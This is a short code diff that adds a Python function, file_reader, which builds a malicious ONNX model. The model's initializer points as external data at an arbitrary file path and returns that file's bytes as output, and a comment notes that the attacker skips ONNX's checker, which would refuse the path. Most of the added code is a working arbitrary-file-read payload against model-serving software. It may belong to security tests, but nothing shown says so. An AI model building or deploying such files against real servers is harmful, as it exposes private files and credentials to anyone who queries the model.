@@ -118,3 +118,24 @@ def _serialise(graph: onnx.GraphProto) -> bytes:
     model.ir_version = 8
     onnx.checker.check_model(model)
     return model.SerializeToString()
+
+
+def file_reader(location: str, length: int) -> bytes:
+    """A model whose output is an initializer kept as ONNX external data at `location`: served
+    as it is, ONNX Runtime would return that file's first `length` bytes to any caller."""
+    stolen = TensorProto()
+    stolen.name = "stolen"
+    stolen.data_type = TensorProto.UINT8
+    stolen.dims.append(length)
+    stolen.data_location = TensorProto.EXTERNAL
+    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
+        entry = stolen.external_data.add()
+        entry.key, entry.value = key, value
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1])
+    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [length])
+    graph = helper.make_graph(
+        [helper.make_node("Identity", ["stolen"], ["y"])], "reader", [x], [y], [stolen]
+    )
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
+    model.ir_version = 8  # onnx's checker would refuse the path; the attacker skips it
+    return model.SerializeToString()
